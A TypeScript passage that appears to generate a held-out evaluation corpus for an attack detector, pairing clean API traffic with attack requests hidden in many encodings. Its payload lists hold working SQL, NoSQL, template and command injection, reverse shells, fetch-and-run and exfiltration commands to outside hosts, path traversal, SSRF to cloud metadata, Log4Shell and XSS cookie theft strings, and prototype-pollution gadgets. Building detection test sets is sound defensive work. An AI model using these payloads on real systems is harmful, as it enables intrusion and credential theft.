    gqlQuery: 'mutation R($input: RuleInput!) { createRule(input: $input) { id } }',
    wrap: (v) => ({
      rule: { name: 'AWS', conditions: [{ field: 'description', op: 'contains', value: v }], match: 'all' },
    }),
  },
  {
    method: 'POST',
    path: '/bms/api/v3/tickets',
    query: 'site',
    gqlQuery: 'mutation T($input: TicketInput!) { openTicket(input: $input) { id } }',
    wrap: (v) => ({
      ticket: {
        title: 'AHU-3 belt',
        priority: 'P2',
        location: { site: 'HQ-SF', room: v },
        notes: 'belt worn',
      },
    }),
  },
  {
    method: 'POST',
    path: '/bms/api/v3/sites/HQ-SF/rules',
    query: 'name',
    gqlQuery: 'mutation BR($input: BmsRuleInput!) { createBmsRule(input: $input) { id } }',
    wrap: (v) => ({
      rule: {
        name: 'Setback',
        when: 'zone.temp > 26',
        actions: [{ action: 'notify', channel: 'email', to: v }],
      },
    }),
  },
  {
    method: 'POST',
    path: '/cases/api/time-entries',
    query: 'matter',
    gqlQuery: 'mutation TE($input: TimeEntryInput!) { logTime(input: $input) { id } }',
    wrap: (v) => ({ time_entry: { matter_id: '2025-LIT-311', hours: 0.3, narrative: v, billable: true } }),
  },
  {
    method: 'POST',
    path: '/cases/api/matters/2025-LIT-311/docket',
    query: 'case_no',
    gqlQuery: 'mutation D($input: DocketInput!) { addDocket(input: $input) { id } }',
    wrap: (v) => ({ entry: { number: 58, court: 'N.D. Cal.', text: v } }),
  },
  {
    method: 'POST',
    path: '/ci/api/v4/projects/412/deployments',
    query: 'ref',
    gqlQuery: 'mutation Dp($input: DeployInput!) { deploy(input: $input) { id } }',
    wrap: (v) => ({
      deployment: { environment: 'staging', ref: v, sha: 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4' },
    }),
  },
  {
    method: 'POST',
    path: '/ci/api/v4/projects/412/test-reports',
    query: 'suite',
    gqlQuery: 'mutation TR($input: ReportInput!) { uploadReport(input: $input) { id } }',
    wrap: (v) => ({
      report: {
        format: 'junit',
        suite: 'unit',
        cases: [{ name: 'renders cart', status: 'failed', message: v }],
      },
    }),
  },
  {
    method: 'POST',
    path: '/learn/api/v2/answers',
    query: 'lang',
    gqlQuery: 'mutation A($input: AnswerInput!) { submitAnswer(input: $input) { correct } }',
    wrap: (v) => ({
      answer: { exercise_id: '6f1c2d3e-4b5a-4c6d-8e7f-0a1b2c3d4e5f', text: v, time_ms: 5400 },
    }),
  },
  {
    method: 'PUT',
    path: '/learn/api/v2/me/profile',
    query: 'display_name',
    gqlQuery: 'mutation P($input: ProfileInput!) { updateProfile(input: $input) { id } }',
    wrap: (v) => ({
      profile: { display_name: v, bio: 'Learning Spanish!', avatar_url: 'https://cdn.learn.example/a/1.png' },
    }),
  },
];

const ESCAPE_ALL = (s: string): string =>
  [...s]
    .map((c) => (/[A-Za-z0-9 ]/.test(c) ? c : `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`))
    .join('');
const SLOT = '__H20_SLOT__';
const headerSafe = (s: string): boolean => /^[\x20-\x7e]*$/.test(s);
const asString = (p: Json): string => (typeof p === 'string' ? p : JSON.stringify(p));

const TECHNIQUES = [
  'nested-field',
  'array-element',
  'json-key',
  'unicode-escape',
  'json-in-string',
  'url-encoded-in-string',
  'base64-in-string',
  'graphql-variables',
  'query-string',
  'header',
  'form-body',
  'multipart-part',
  'double-encoding',
  'jsonapi-attribute',
  'json-patch-value',
  'ndjson-line',
] as const;
type Technique = (typeof TECHNIQUES)[number];

function embed(t: Target, payload: Json, tech: Technique): Req & { technique: string } {
  const s = asString(payload);
  const h = (extra: Record<string, string> = {}): Record<string, string> => baseHeaders(extra);
  const body = (b: Json, ct = 'application/json'): Req & { technique: string } => ({
    kind: 'attack',
    technique: tech,
    method: t.method,
    path: t.path,
    headers: h({ 'content-type': ct }),
    body: JSON.stringify(b),
  });
  switch (tech) {
    case 'nested-field':
      return body(t.wrap(payload));
    case 'array-element':
      return body({ ...(t.wrap('ok') as object), tags: ['routine', payload, 'follow-up'] });
    case 'json-key':
      return body({ ...(t.wrap('ok') as object), metadata: { [s]: 'true' } });
    case 'unicode-escape': {
      const raw = JSON.stringify(t.wrap(SLOT)).replace(`"${SLOT}"`, `"${ESCAPE_ALL(s)}"`);
      return {
        kind: 'attack',
        technique: tech,
        method: t.method,
        path: t.path,
        headers: h({ 'content-type': 'application/json' }),
        body: raw,
      };
    }
    case 'json-in-string':
      return body(t.wrap(JSON.stringify({ filter: { value: payload }, v: 2 })));
    case 'url-encoded-in-string':
      return body(t.wrap(enc(s)));
    case 'base64-in-string':
      return body({
        ...(t.wrap('see attachment') as object),
        attachment: { encoding: 'base64', filename: 'note.txt', data: b64(s) },
      });
    case 'graphql-variables':
      return {
        kind: 'attack',
        technique: tech,
        method: 'POST',
        path: '/graphql',
        headers: h({ 'content-type': 'application/json' }),
        body: JSON.stringify({ query: t.gqlQuery, variables: { input: t.wrap(payload) } }),
      };
    case 'query-string':
      return {
        kind: 'attack',
        technique: tech,
        method: 'GET',
        path: `${t.path}?${enc(t.query)}=${enc(s)}&page=1`,
        headers: h(),
        body: '',
      };
    case 'double-encoding':
      return {
        kind: 'attack',
        technique: tech,
        method: 'GET',
        path: `${t.path}?${enc(t.query)}=${enc(enc(s))}&limit=20`,
        headers: h(),
        body: '',
      };
    case 'header': {
      if (!headerSafe(s)) return embed(t, payload, 'nested-field');
      const name = pick(['user-agent', 'referer', 'x-forwarded-for', 'x-api-version', 'x-client-name']);
      return {
        kind: 'attack',
        technique: `header:${name}`,
        method: t.method,
        path: t.path,
        headers: { ...h({ 'content-type': 'application/json' }), [name]: s },
        body: JSON.stringify(t.wrap('ok')),
      };
    }
    case 'form-body':
      return {
        kind: 'attack',
        technique: tech,
        method: 'POST',
        path: t.path,
        headers: h({ 'content-type': 'application/x-www-form-urlencoded' }),
        body: `${enc(t.query)}=${enc(s)}&csrf_token=${alnum(32)}&submit=Save`,
      };
    case 'multipart-part': {
      const m = multipart(t.path, [
        { name: 'title', content: 'Quarterly upload' },
        { name: t.query, content: s },
        { name: 'file', filename: 'scan.pdf', type: 'application/pdf', content: fakePdf() },
      ]);
      return { ...m, kind: 'attack', technique: tech };
    }
    case 'jsonapi-attribute':
      return body(
        {
          data: {
            type: 'records',
            id: String(int(1, 9999)),
            attributes: { name: 'x', description: payload },
          },
        },
        'application/vnd.api+json',
      );
    case 'json-patch-value':
      return {
        ...body(
          [
            { op: 'test', path: '/version', value: 3 },
            { op: 'replace', path: '/notes', value: payload },
          ],
          'application/json-patch+json',
        ),
        method: 'PATCH',
      };
    case 'ndjson-line':
      return {
        kind: 'attack',
        technique: tech,
        method: 'POST',
        path: t.path.replace(/\/[^/]+$/, '/bulk'),
        headers: h({ 'content-type': 'application/x-ndjson' }),
        body: `${JSON.stringify({ op: 'upsert', ts: ts(), note: 'ok' })}\n${JSON.stringify({ op: 'upsert', ts: ts(), note: payload })}\n`,
      };
  }
}

const PAYLOADS: Record<string, readonly Json[]> = {
  sql: [
    "' OR '1'='1' -- ",
    "1' UNION SELECT username, password_hash FROM users--",
    "'; DROP TABLE prescriptions; --",
    "1' AND SLEEP(5)#",
    '1 AND (SELECT 1 FROM (SELECT(SLEEP(5)))a)',
    "' AND extractvalue(1,concat(0x7e,(select @@version),0x7e))-- -",
    "1;WAITFOR DELAY '0:0:5'--",
    "' UNION ALL SELECT NULL,NULL,table_name FROM information_schema.tables--",
    "admin'--",
    "1' ORDER BY 7--+",
    "'||(SELECT pg_sleep(10))||'",
    '1) OR 1=1--',
    "' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects WHERE xtype='U'))--",
    "' OR 1=1 LIMIT 1 OFFSET 0 -- ",
    "x' AND (SELECT COUNT(*) FROM pg_shadow)>0 AND 'a'='a",
    '1 UNION SELECT 1,LOAD_FILE(0x2f6574632f706173737764),3',
    "'; EXEC xp_cmdshell 'whoami'--",
    "' AND updatexml(null,concat(0x3a,(SELECT user())),null)--",
    "1' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64--",
    "'/**/UNION/**/SELECT/**/1,2,group_concat(email)/**/FROM/**/users#",
    "1'; COPY (SELECT '') TO PROGRAM 'curl http://x.oast.fun/$(id|base64)'--",
    "' OR 'x'='x",
    '" OR ""="',
    '-1 UNION SELECT 1,2,3,4,5,version()--',
    "1' RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))--",
    "';SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END--",
    "1 AND 1=(SELECT 1 FROM dual WHERE DBMS_PIPE.RECEIVE_MESSAGE('a',5)=1)",
    "') UNION SELECT sql FROM sqlite_master--",
    '1%27%20OR%20%271%27%3D%271',
    "1 OR 2>1 INTO OUTFILE '/var/www/html/s.php'",
    "' HAVING 1=1--",
    "'; INSERT INTO users(email,role) VALUES('e@x.io','admin');--",
    "1' AND GTID_SUBSET(CONCAT(0x7e,(SELECT database()),0x7e),1)--",
    "' UnIoN SeLeCt 1,concat(user,0x3a,password) FrOm mysql.user-- -",
  ],
  nosql: [
    { $ne: null },
    { $gt: '' },
    { $where: 'sleep(5000) || true' },
    { $regex: '^adm', $options: 'i' },
    "'; return true; var x='",
    { $where: 'this.password.match(/^a.*/) && sleep(100)' },
    { $or: [{}, { a: 'a' }] },
    { $expr: { $eq: [1, 1] } },
    {
      $function: {
        body: 'function(){ return require("child_process").execSync("id").toString() }',
        args: [],
        lang: 'js',
      },
    },
    "' || '1'=='1",
    { $nin: ['x'] },
    { $exists: true },
    { $gte: ' ' },
    '{"$ne": null}',
    '{"$gt": ""}',
    '[$ne]=1',
    { $lookup: { from: 'users', localField: 'owner', foreignField: '_id', as: 'leak' } },
    '"; db.users.drop(); "',
    "';sleep(5000);'",
    { $where: 'function(){ return this.role == "admin" }' },
    {
      $accumulator: {
        init: 'function(){return require("child_process").execSync("id")}',
        accumulate: 'function(){}',
        accumulateArgs: [],
        merge: 'function(){}',
        lang: 'js',
      },
    },
    { $elemMatch: { role: { $ne: 'user' } } },
    '1, $where: "1 == 1"',
    { $type: 2 },
    { $regex: '.*' },
    "true, $where: '1 == 1'",
    { $not: { $eq: 'x' } },
    { $all: [{ $elemMatch: { $gt: 0 } }] },
    { $mod: [1, 0] },
    '{"username": {"$ne": "foo"}, "password": {"$ne": "bar"}}',
    { $size: { $gt: 0 } },
    '{"$where": "sleep(5000)"}',
    { $text: { $search: 'admin' }, $comment: 'x' },
  ],
  template: [
    '{{7*7}}',
    "{{constructor.constructor('return process')().mainModule.require('child_process').execSync('id')}}",
    '${7*7}',
    '<%= `id` %>',
    "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "#{T(java.lang.Runtime).getRuntime().exec('id')}",
    '${T(java.lang.Runtime).getRuntime().exec("cat /etc/passwd")}',
    "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
    '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
    "{{self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read()}}",
    "{php}system('id');{/php}",
    "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
    "*{T(java.lang.Runtime).getRuntime().exec('whoami')}",
    '#set($x=$class.inspect("java.lang.Runtime").type.getRuntime().exec("id"))$x',
    "{% import os %}{{ os.system('id') }}",
    '@(System.Diagnostics.Process.Start("cmd.exe","/c whoami"))',
    '{{#with "s" as |string|}}{{#with "e"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub "constructor")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push "return require(\'child_process\').execSync(\'id\');"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}',
    "{{cycler.__init__.__globals__.os.popen('id').read()}}",
    "{{lipsum.__globals__['os'].popen('cat /etc/passwd').read()}}",
    "{{ joiner.__init__.__globals__.os.popen('whoami').read() }}",
    '${"freemarker.template.utility.Execute"?new()("id")}',
    '{{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}',
    "{{['id']|filter('system')}}",
    '<%= system("id") %>',
    "<%= File.open('/etc/passwd').read %>",
    "[[${T(java.lang.Runtime).getRuntime().exec('id')}]]",
    '${{<%[%\'"}}%\\.',
    '{{ "".__class__.__base__.__subclasses__()[132].__init__.__globals__["popen"]("id").read() }}',
    "${__import__('os').popen('id').read()}",
    "{{x=Object.constructor.getOwnPropertyNames}}{{process.mainModule.require('child_process').execSync('id')}}",
    '#{ "".getClass().forName("java.lang.Runtime").getMethod("getRuntime").invoke(null).exec("id") }',
    '{{dump(app)}}{{app.request.server.all|join(",")}}',
  ],
  command: [
    '; id',
    '| cat /etc/passwd',
    '`whoami`',
    '$(curl -s http://x7k2.oast.fun/$(whoami))',
    '&& wget -qO- http://185.220.101.4/x.sh | sh',
    '; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
    '| nc -e /bin/sh 203.0.113.5 4444',
    ';cat${IFS}/etc/passwd',
    '; ping -c 10 127.0.0.1',
    '& ping -n 10 127.0.0.1 &',
    '| powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA',
    '$(sleep 5)',
    '\nid\n',
    '`nslookup $(hostname).d3v.oast.fun`',
    '; python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("10.0.0.1",4444));[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn("/bin/sh")\'',
    '; /bin/busybox wget http://198.51.100.7/mips -O /tmp/m; chmod +x /tmp/m; /tmp/m',
    'a|rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f',
    'x; echo c2ggLWkgPiYgL2Rldi90Y3AvMTAuMC4wLjEvNDQ0NCAwPiYx | base64 -d | sh',
    '|| curl http://169.254.169.254/latest/meta-data/ | curl -X POST -d @- http://exfil.example.net',
    '; perl -e \'use Socket;$i="10.0.0.1";$p=1234;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));\'',
    '& cmd.exe /c type C:\\Windows\\win.ini',
    '%0a/usr/bin/id',
    '; echo "* * * * * root curl http://x.oast.fun/c|sh" >> /etc/crontab',
    '$(cat /proc/self/environ)',
    '\'; php -r \'$sock=fsockopen("10.0.0.1",4444);exec("/bin/sh -i <&3 >&3 2>&3");\'',
    '| ruby -rsocket -e\'f=TCPSocket.open("10.0.0.1",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)\'',
    '; uname -a; id; cat /etc/shadow',
    '{${IFS}cat,/etc/passwd}',
    '; curl -fsSL http://raw.example-cdn.net/k.sh -o /tmp/k && bash /tmp/k',
    'v2.3.1 && env | curl -X POST --data-binary @- https://webhook.site/3f9d2c1a',
    "$(printf '\\x69\\x64')",
    '; nohup socat TCP:10.0.0.1:4444 EXEC:/bin/bash &',
    '`/bin/ls -la /root/.ssh`',
  ],
  'path-traversal': [
    '../../../../etc/passwd',
    '..%2f..%2f..%2f..%2fetc%2fpasswd',
    '....//....//....//etc/passwd',
    '..\\..\\..\\..\\windows\\win.ini',
    '%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fshadow',
    '/var/www/html/../../../etc/passwd',
    '..%252f..%252f..%252fetc%252fpasswd',
    '..%c0%af..%c0%af..%c0%afetc/passwd',
    'file:///etc/passwd',
    '../../../../proc/self/environ',
    '..;/..;/WEB-INF/web.xml',
    '../../../../../../root/.ssh/id_rsa',
    '/..%00/..%00/..%00/etc/passwd',
    '../../app/.env',
    'C:\\..\\..\\..\\boot.ini',
    '..%5c..%5c..%5cwindows%5csystem32%5cdrivers%5cetc%5chosts',
    '../../../../var/run/secrets/kubernetes.io/serviceaccount/token',
    '..%u2216..%u2216etc%u2216passwd',
    '/static/../../../../etc/passwd%00.png',
    '....\\\\....\\\\....\\\\windows\\\\system32\\\\config\\\\SAM',
    '%252e%252e%252f%252e%252e%252fetc%252fpasswd',
    '../../../../home/node/.aws/credentials',
    '..//..//..//..//etc//hosts',
    'uploads/../../../../../../etc/group',
    '../../../../../../proc/1/cmdline',
    '..\\/..\\/..\\/etc/passwd',
    '%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd',
    '/./././../../../etc/passwd',
    '../../.git/config',
    '..%255c..%255c..%255cwindows%255cwin.ini',
    '../../../../usr/local/app/config/database.yml',
    '\\\\..\\\\..\\\\..\\\\inetpub\\\\wwwroot\\\\web.config',
    '....////....////etc/passwd',
  ],
  ssrf: [
    'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
    'http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token',
    'http://[::ffff:169.254.169.254]/latest/meta-data/',
    'http://2852039166/latest/user-data',
    'http://0x7f000001:6379/',
    'gopher://127.0.0.1:6379/_*1%0d%0a$8%0d%0aflushall%0d%0a*3%0d%0a$3%0d%0aset%0d%0a$1%0d%0a1%0d%0a$57%0d%0a%0a%0a*/1 * * * * bash -i >& /dev/tcp/10.0.0.1/4444 0>&1%0a%0a%0d%0a',
    'http://localhost:2375/containers/json',
    'dict://127.0.0.1:11211/stats',
    'http://169.254.170.2/v2/credentials/',
    'http://127.1:8500/v1/agent/self',
    'http://[::1]:8080/admin',
    'http://100.100.100.200/latest/meta-data/ram/security-credentials/',
    'http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/',
    'https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets',
    'http://017700000001:9200/_cat/indices',
    'http://evil.example.com@169.254.169.254/latest/meta-data/',
    'http://169.254.169.254.nip.io/latest/meta-data/',
    'http://0.0.0.0:22/',
    'http://localhost:8080/actuator/env',
    'file:///etc/passwd',
    'http://192.168.0.1/cgi-bin/luci',
    'http://10.0.0.5:10250/pods',
    'http://[0:0:0:0:0:ffff:7f00:1]:3000/',
    'jar:http://127.0.0.1:8080/x.jar!/',
    'http://instance-data/latest/meta-data/',
    'http://localtest.me:5984/_all_dbs',
    'http://①⑥⑨.②⑤④.①⑥⑨.②⑤④/latest/meta-data/',
    'http://127.0.0.1:15672/api/users',
    'ldap://127.0.0.1:389/%0astats%0aquit',
    'http://metadata.tencentyun.com/latest/meta-data/',
    'http://192.0.0.192/latest/',
    'netdoc:///etc/passwd',
    'http://0177.0.0.1:2379/v2/keys/?recursive=true',
  ],
  log4shell: [
    '${jndi:ldap://x7k2.oast.fun/a}',
    '${${lower:j}ndi:${lower:l}dap://185.220.101.4:1389/Exploit}',
    '${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://198.51.100.7:1099/obj}',
    '${jndi:dns://d3v.oast.fun/x}',
    '${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//attacker.example/a}',
    '${jndi:ldap://127.0.0.1#evil.example:1389/a}',
    '${${upper:j}ndi:ldaps://ldap.attacker.example/o=tomcat}',
    '${jndi:${lower:l}${lower:d}a${lower:p}://x.interact.sh/q}',
    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x.oast.fun/z}",
    '${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.x7k2.oast.fun/a}',
    '${jndi:ldap://${sys:java.version}.${hostName}.oast.live/v}',
    '${jndi:rmi://203.0.113.9:1099/jdk8}',
    '${${::-j}ndi:iiop://198.51.100.7/a}',
    '${jndi:nis://evil.example/a}',
    '${${lower:${lower:jndi}}:${lower:rmi}://x.oast.fun/poc}',
    '${jndi:corba://evil.example/a}',
    '${${k8s:k5:-J}${k8s:k5:-ND}i${sd:k5:-:}ldap://x.oast.fun/k}',
    '${j${::-n}di:ldap://x.oast.pro/a}',
    '${jndi:ldap://[::1]:1389/a}',
    '${${main:\\k5:-Jnd}i:ldap://x.oast.fun/m}',
    '${jn${lower:d}i:l${lower:d}ap://${lower:x}.oast.fun/b}',
    '${jndi:http://x.oast.fun/h}',
    '%24%7Bjndi%3Aldap%3A%2F%2Fx.oast.fun%2Fenc%7D',
    '${${base64:JHtqbmRpOmxkYXA6Ly94Lm9hc3QuZnVuL2J9}}',
    '${jndi:ldap://${env:USER}.${env:HOSTNAME}.x.oast.fun/u}',
    '${${::-J}${::-N}${::-D}${::-I}:${::-L}${::-D}${::-A}${::-P}://x.oast.fun/U}',
    '${jndi:ldap://x.oast.fun:443/${java:os}}',
    '${jndi:${lower:d}ns://${env:JAVA_HOME}.x.oast.fun}',
    '${${upper:${lower:J}}ndi:ldap://x.oast.fun/c}',
    '${${sys:foo:-j}ndi:ldap://x.oast.fun/s}',
    '${jndi:ldap://x.oast.fun/${ctx:loginId}}',
    '${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x.oast.fun/n}',
    '${jndi:ldap://2130706433:1389/a}',
  ],
  xss: [
    '<script>alert(document.domain)</script>',
    '<img src=x onerror=alert(1)>',
    "<svg/onload=fetch('//x7k2.oast.fun?c='+document.cookie)>",
    'javascript:alert(document.cookie)',
    '"><script src=//xss.report/c/h20></script>',
    '<iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;"></iframe>',
    '<details open ontoggle=alert(1)>',
    '<a href="jAvAsCrIpT&colon;alert(1)">click</a>',
    "'-alert(1)-'",
    '<body onload=alert(String.fromCharCode(88,83,83))>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<x onmouseover=alert(1) style=display:block;width:100%;height:100%>hover',
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
    '<input autofocus onfocus=alert(1)>',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    "<img src=1 onerror=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>",
    '</textarea><script>new Image().src="//x.oast.fun/?"+localStorage.token</script>',
    '<ScRiPt>prompt`1`</ScRiPt>',
    '<video><source onerror="javascript:alert(1)">',
    '"onmouseover="alert(1)',
    '<svg><script>alert&#40;1&#41;</script>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<marquee onstart=alert(1)>',
    '<style>@import "//evil.example/x.css";</style><b>hi</b>',
    '<form action="javascript:alert(1)"><button>Go</button></form>',
    '<img src="x" onerror="this.src=\'//x.oast.fun/?\'+document.cookie">',
    '<base href="//evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<iframe src="javascript:alert`xss`">',
    '<audio src=x onerror=top[`al`+`ert`](1)>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48aW1hZ2UgaHJlZj0nMScgb25lcnJvcj0nYWxlcnQoMSknLz48L3N2Zz4=#x"></use></svg>',
    '<div style="background:url(javascript:alert(1))">',
    '<img src=x:x onerror=import("//evil.example/x.js")>',
  ],
};

/* Prototype pollution needs request shapes of its own. */
function ppAttacks(): (Req & { technique: string })[] {
  const H = (ct?: string): Record<string, string> => baseHeaders(ct ? { 'content-type': ct } : {});
  const r = (
    technique: string,
    method: string,
    path: string,
    body: string,
    ct?: string,
  ): Req & { technique: string } => ({ kind: 'attack', technique, method, path, headers: H(ct), body });
  const J = 'application/json';
  const ejs = { outputFunctionName: "x;process.mainModule.require('child_process').execSync('id');x" };
  const out: (Req & { technique: string })[] = [];
  TARGETS.forEach((t, k) => {
    const base = JSON.stringify(t.wrap('ok'));
    const nested = base.replace(/^\{"(\w+)":\{/, '{"$1":{"__proto__":{"role":"admin"},');
    const head =
      nested !== base ? nested : `${base.slice(0, -1)},"meta":{"source":"web","__proto__":{"role":"admin"}}}`;
    if (k % 3 === 0)
      out.push(r('top-level-key', t.method, t.path, `{"__proto__":{"isAdmin":true},${base.slice(1)}`, J));
    else if (k % 3 === 1) out.push(r('nested-key', t.method, t.path, head, J));
    else
      out.push(
        r(
          'constructor-prototype',
          t.method,
          t.path,
          `{"constructor":{"prototype":{"polluted":"yes","admin":1}},${base.slice(1)}`,
          J,
        ),
      );
  });
  out.push(
    r(
      'unicode-escape-key',
      'POST',
      '/rx/v2/pharmacist-questions',
      '{"question":"hi","\\u005f\\u005fproto\\u005f\\u005f":{"isAdmin":true}}',
      J,
    ),
    r(
      'json-patch-path',
      'PATCH',
      '/cases/api/matters/2025-LIT-311',
      JSON.stringify([{ op: 'add', path: '/__proto__/isAdmin', value: true }]),
      'application/json-patch+json',
    ),
    r(
      'json-patch-path',
      'PATCH',
      '/rx/v2/patients/9d2e/profile',
      JSON.stringify([{ op: 'replace', path: '/constructor/prototype/role', value: 'admin' }]),
      'application/json-patch+json',
    ),
    r('query-string', 'GET', '/dsp/v1/reports?metrics=clicks&__proto__[isAdmin]=true', ''),
    r('query-string', 'GET', '/ledger/v1/ledger?account=1200&constructor[prototype][role]=admin', ''),
    r('query-string', 'GET', '/learn/api/v2/lessons?lang=es&__proto__.polluted=1', ''),
    r(
      'form-body',
      'POST',
      '/account/checkout/coupon',
      '__proto__%5BisAdmin%5D=true&coupon=WELCOME10',
      'application/x-www-form-urlencoded',
    ),
    r(
      'merge-patch',
      'PATCH',
      '/learn/api/v2/me/settings',
      JSON.stringify({
        daily_goal_xp: 20,
        reminder: JSON.parse(
          '{"__proto__":{"shell":"/proc/self/exe","argv0":"console.log(require(\\"child_process\\").execSync(\\"id\\").toString())//","NODE_OPTIONS":"--require /proc/self/cmdline"}}',
        ),
      }),
      'application/merge-patch+json',
    ),
    r(
      'ejs-gadget',
      'PUT',
      '/cms/api/products/SKU-12345',
      `{"__proto__":${JSON.stringify(ejs)},"product":{"title":"x"}}`,
      J,
    ),
    r(
      'graphql-variables',
      'POST',
      '/graphql',
      `{"query":"mutation S($input: SettingsInput!) { updateSettings(input: $input) { ok } }","variables":{"input":{"__proto__":{"admin":true}}}}`,
      J,
    ),
    r(
      'json-in-string',
      'POST',
      '/bms/api/v3/sites/HQ-SF/rules',
      JSON.stringify({ rule: { name: 'x', config: '{"__proto__":{"polluted":true}}' } }),
      J,
    ),
    r(
      'lodash-path',
      'POST',
      '/collections/api/objects/1923.44.1/fields',
      JSON.stringify({ path: '__proto__.isAdmin', value: true }),
      J,
    ),
    r(
      'lodash-path',
      'POST',
      '/ci/api/v4/projects/412/settings',
      JSON.stringify({
        key: 'constructor.prototype.execArgv',
        value: ["--eval=require('child_process').execSync('id')"],
      }),
      J,
    ),
    r(
      'array-element',
      'POST',
      '/dsp/v1/events/bulk',
      `[{"type":"click"},{"__proto__":{"sourceURL":"\\u000areturn process.mainModule.require('child_process').execSync('id')//"}}]`,
      J,
    ),
    r(
      'multipart-part',
      'POST',
      '/cases/api/matters/2025-LIT-311/documents',
      multipart('/x', [
        { name: '__proto__[admin]', content: 'true' },
        { name: 'title', content: 'Ex. A' },
      ]).body,
      'multipart/form-data; boundary=----WebKitFormBoundary',
    ),
    r(
      'ndjson-line',
      'POST',
      '/ledger/v1/bank-feeds/abc/transactions',
      '{"amount":"-1.00","description":"x"}\n{"__proto__":{"client":1,"escapeFunction":"1; return global.process.mainModule.constructor._load(\'child_process\').execSync(\'id\')"}}\n',
      'application/x-ndjson',
    ),
  );
  return out;
}

const attackList: (Req & { technique: string; family: string })[] = [];
let fi = 0;
for (const [family, payloads] of Object.entries(PAYLOADS)) {
  payloads.forEach((p, k) => {
    const tech = TECHNIQUES[(k * 5 + fi * 3) % TECHNIQUES.length] as Technique;
    const target = TARGETS[(k * 7 + fi) % TARGETS.length] as Target;
    attackList.push({ ...embed(target, p, tech), family });
  });
  fi++;
}
for (const a of ppAttacks()) attackList.push({ ...a, family: 'prototype-pollution' });

const attacks: CorpusRequest[] = attackList.map((a, k) => ({
  id: `h20a${k + 1}`,
  kind: a.kind,
  family: a.family,
  technique: a.technique,
  method: a.method,
  path: a.path,
  headers: a.headers,
  body: a.body,
}));

/** Held-out corpus 20: blind clean traffic for eight new API domains, and attacks hidden in the same APIs. */
export const heldout20: { readonly clean: CorpusRequest[]; readonly attacks: CorpusRequest[] } = {
  clean,
  attacks,
};

if (process.argv[1] !== undefined && fileURLToPath(import.meta.url) === process.argv[1]) {
  const here = dirname(fileURLToPath(import.meta.url));
  writeFileSync(join(here, 'clean-heldout20.json'), `${JSON.stringify(clean, null, 2)}\n`);
  writeFileSync(join(here, 'attacks-heldout20.json'), `${JSON.stringify(attacks, null, 2)}\n`);
  const count = (xs: CorpusRequest[], f: (x: CorpusRequest) => string): Record<string, number> =>
    xs.reduce<Record<string, number>>((m, x) => {
      m[f(x)] = (m[f(x)] ?? 0) + 1;
      return m;
    }, {});
  console.log(
    `clean: ${clean.length}`,
    count(clean, (x) => x.kind),
  );
  console.log(
    `attacks: ${attacks.length}`,
    count(attacks, (x) => x.family ?? '?'),
  );
}
